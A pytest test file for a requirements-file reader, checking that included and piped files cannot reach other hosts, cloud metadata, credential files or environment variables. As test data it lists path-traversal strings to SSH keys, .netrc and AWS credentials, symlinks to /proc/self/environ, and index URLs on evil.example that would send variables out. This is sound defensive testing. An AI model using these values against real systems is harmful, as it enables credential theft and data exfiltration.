"""The files that each kind of source may include, and the files that are never read as production's."""

from __future__ import annotations

import io
import os
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import write_files

from ds_docker_env.common.errors import GenerationError, SourceError
from ds_docker_env.common.sources import LocalFile, Source, included, source_of
from ds_docker_env.common.target import Target
from ds_docker_env.pinning.production.reader import read_production

LINUX = Target("3.11")
URL = "https://git.example.com/shop/api/requirements.txt"
GIT = "git+https://git.example.com/shop.git@v1#api/requirements.txt"
NOT_WINDOWS = pytest.mark.skipif(sys.platform == "win32", reason="paths and links of other systems")

# Files that an attacker would name.
ELSEWHERE = [
    "file:///run/secrets/jupyter_password",
    "file://localhost/etc/hostname",
    "FILE:///etc/hostname",
    "git+file:///project#.env",
    "git+https://git.example.com/other.git#requirements.txt",
    "https://evil.example/requirements.txt",
    "http://169.254.169.254/latest/user-data",
    "https://git.example.com@evil.example/r.txt",
    "https://evil.example\\@git.example.com/r.txt",
    "https://git.example.com:444/r.txt",
    "s3://bucket/requirements.txt",
]
PATHS = [
    "/run/secrets/jupyter_password",
    "../../../../../../../../run/secrets/jupyter_password",
    "~/.netrc",
    "${HOME}/.netrc",
    "C:\\Users\\ana\\_netrc",
    "C:/Users/ana/_netrc",
    "\\\\server\\share\\passwords.txt",
    "//server/share/passwords.txt",
    "image:registry/team/api:1",
    "-",
]


@pytest.mark.parametrize("reference", [*ELSEWHERE, *PATHS, "base.txt"])
@pytest.mark.parametrize("location", ["-", "image:registry/team/api:1"])
def test_standard_input_and_an_image_include_nothing(location: str, reference: str) -> None:
    with pytest.raises(SourceError):
        included(source_of(location), reference)


@pytest.mark.parametrize("location", [URL, GIT])
@pytest.mark.parametrize("reference", ELSEWHERE)
def test_a_remote_file_cannot_include_files_of_another_place(location: str, reference: str) -> None:
    with pytest.raises(SourceError):
        included(source_of(location), reference)


@pytest.mark.parametrize("location", [URL, GIT])
@pytest.mark.parametrize("reference", PATHS)
def test_a_local_path_in_a_remote_file_is_a_remote_path_or_refused(location: str, reference: str) -> None:
    source = source_of(location)
    try:
        found = included(source, reference)
    except SourceError:
        return
    assert type(found) is type(source)
    assert found.place == source.place


INCLUDED = {
    (URL, "base.txt"): "https://git.example.com/shop/api/base.txt",
    (URL, "../base.txt"): "https://git.example.com/shop/base.txt",
    (URL, "/base.txt"): "https://git.example.com/base.txt",
    (URL, "https://git.example.com/other/base.txt"): "https://git.example.com/other/base.txt",
    (GIT, "base.txt"): "git+https://git.example.com/shop.git@v1#api/base.txt",
    (GIT, "../base.txt"): "git+https://git.example.com/shop.git@v1#base.txt",
}


@pytest.mark.parametrize(("asked", "name"), INCLUDED.items())
def test_a_remote_file_includes_files_of_its_place(asked: tuple[str, str], name: str) -> None:
    location, reference = asked
    assert included(source_of(location), reference).name == name


@pytest.fixture
def production(tmp_path: Path) -> LocalFile:
    """Make a checkout of production's repository, and a home with files that must not be read."""
    write_files(
        tmp_path,
        {
            "home/api/requirements/production.txt": "a==1\n",
            "home/api/requirements/base.txt": "b==1\n",
            "home/api/common.txt": "b==1\n",
            "home/api/.env": "canary\n",
            "home/api/.secrets/jupyter_password": "canary\n",
            "home/.netrc": "canary\n",
            "home/.ssh/id_ed25519": "canary\n",
            "home/.aws/credentials": "canary\n",
            "home/.config/gh/hosts.yml": "canary\n",
        },
    )
    return LocalFile(str(tmp_path / "home/api/requirements/production.txt"))


@pytest.mark.parametrize("reference", ["base.txt", "./base.txt", "../common.txt", "../../api/common.txt"])
def test_a_local_file_includes_its_neighbours(production: LocalFile, reference: str) -> None:
    assert included(production, reference).read() == b"b==1\n"
    path = os.path.join(os.path.dirname(production.location), reference)
    assert included(production, path).read() == b"b==1\n"
    assert included(production, Path(os.path.normpath(path)).as_uri()).read() == b"b==1\n"


@pytest.mark.parametrize("url", ["https://example.com/constraints.txt", "http://127.0.0.1:9/constraints.txt"])
def test_a_local_file_includes_a_url(production: LocalFile, url: str) -> None:
    assert included(production, url).name == url


PRIVATE = [
    "../.env",
    "../.secrets/jupyter_password",
    "../../.netrc",
    "../../.ssh/id_ed25519",
    "../../.aws/credentials",
    "../../.config/gh/hosts.yml",
]


@pytest.mark.parametrize("reference", PRIVATE)
def test_a_local_file_cannot_include_hidden_files(production: LocalFile, reference: str) -> None:
    private = os.path.normpath(os.path.join(os.path.dirname(production.location), reference))
    for named in (reference, private, Path(private).as_uri()):
        with pytest.raises(SourceError, match="so it is not read"):
            included(production, named)


@NOT_WINDOWS
@pytest.mark.parametrize("reference", PRIVATE)
def test_a_link_to_a_hidden_file_is_not_followed(production: LocalFile, reference: str) -> None:
    folder = Path(production.location).parent
    (folder / "innocent.txt").symlink_to(reference)
    (folder / "chain.txt").symlink_to("innocent.txt")
    (folder / "folder").symlink_to(Path(reference).parent)
    for named in ("innocent.txt", "chain.txt", f"folder/{Path(reference).name}"):
        with pytest.raises(SourceError, match="so it is not read"):
            included(production, named)
    with pytest.raises(SourceError, match="so it is not read"):
        source_of(str(folder / "innocent.txt")).read()


@NOT_WINDOWS
def test_a_link_through_a_name_with_two_dots_is_followed(production: LocalFile) -> None:
    """Kubernetes mounts a configuration like this."""
    folder = Path(production.location).parent
    write_files(folder, {"..2026_11_29/extra.txt": "c==1\n"})
    (folder / "..data").symlink_to("..2026_11_29")
    (folder / "extra.txt").symlink_to("..data/extra.txt")
    assert included(production, "extra.txt").read() == b"c==1\n"
    assert source_of(str(folder / "extra.txt")).read() == b"c==1\n"


@NOT_WINDOWS
@pytest.mark.parametrize("path", ["/proc/self/environ", "/etc/passwd", "/run/secrets/x", "/var/run/x", "/sys/x"])
def test_system_files_are_not_read_even_if_they_are_named(production: LocalFile, path: str, tmp_path: Path) -> None:
    (tmp_path / "link.txt").symlink_to(path)
    for location in (path, f"file://{path}", str(tmp_path / "link.txt")):
        with pytest.raises(SourceError, match="so it is not read"):
            source_of(location).read()
        with pytest.raises(SourceError, match="so it is not read"):
            included(production, location)


@pytest.mark.parametrize("name", [".netrc", "_netrc", ".secrets/jupyter_password", ".ssh/key", ".aws/credentials"])
def test_a_login_that_is_named_by_mistake_is_not_read(tmp_path: Path, name: str) -> None:
    write_files(tmp_path, {name: "canary\n"})
    with pytest.raises(SourceError, match="copy it to another directory or name") as caught:
        read_production(str(tmp_path / name), LINUX)
    assert "canary" not in str(caught.value)


def test_a_project_in_a_hidden_directory_works(tmp_path: Path) -> None:
    write_files(tmp_path / ".worktrees" / "api", {"r.txt": "-r base.txt\na==1\n", "base.txt": "b==1\n"})
    names = [pin.name for pin in read_production(str(tmp_path / ".worktrees/api/r.txt"), LINUX).pins]
    assert sorted(names) == ["a", "b"]


PIPED = {
    "a path": "-r {secret}",
    "constraints": "a==1\n-c {secret}",
    "an option with =": "--requirement={secret}",
    "an option without a space": "-r{secret}",
    "after an index": "--index-url https://evil.example/ -r {secret}",
    "a file URL": "-r file://{secret}",
    "a path from here": "-r ../../../../../../../..{secret}",
    "a variable": "-r ${{SECRET}}",
    "a variable in an index": "--index-url https://evil.example/${{CANARY}}/\na==1",
    "a variable in another index": "--extra-index-url https://evil.example/?x=${{CANARY}}\na==1",
    "a variable in a download": "a @ https://evil.example/${{CANARY}}/a-1.0-py3-none-any.whl",
    "a line in an address": '--index-url "https://evil.example/ -r {secret}"\na==1',
    "a backslash in an index": "--index-url https://evil.example/\\\\\\\\@known.example/\na==1",
}


@pytest.mark.parametrize("text", PIPED.values(), ids=PIPED)
def test_piped_text_cannot_read_files_and_variables_of_this_machine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    write_files(tmp_path, {"secret": "canary\n"})
    monkeypatch.setenv("CANARY", "canary")
    monkeypatch.setenv("SECRET", str(tmp_path / "secret"))
    monkeypatch.chdir(tmp_path)
    piped = io.BytesIO(text.format(secret=tmp_path / "secret").encode())
    monkeypatch.setattr(sys, "stdin", SimpleNamespace(buffer=piped, isatty=lambda: False))
    with pytest.raises(GenerationError) as caught:
        read_production("-", LINUX)
    assert "canary" not in str(caught.value)
    assert "standard input:" in str(caught.value)


def test_an_index_in_a_directory_of_this_machine_is_ignored_with_a_line(tmp_path: Path) -> None:
    write_files(tmp_path, {"r.txt": "--find-links file:///run/secrets\n--index-url /srv/wheels\na==1\n"})
    production = read_production(str(tmp_path / "r.txt"), LINUX)
    assert production.indexes == {}
    assert list(production.ignored) == ["--find-links file:///run/secrets", "--index-url /srv/wheels"]


def test_every_kind_of_source_has_a_place(production: LocalFile) -> None:
    sources: list[Source] = [source_of(location) for location in ("-", URL, GIT, "image:a", production.location)]
    assert len({source.place for source in sources}) == len(sources)
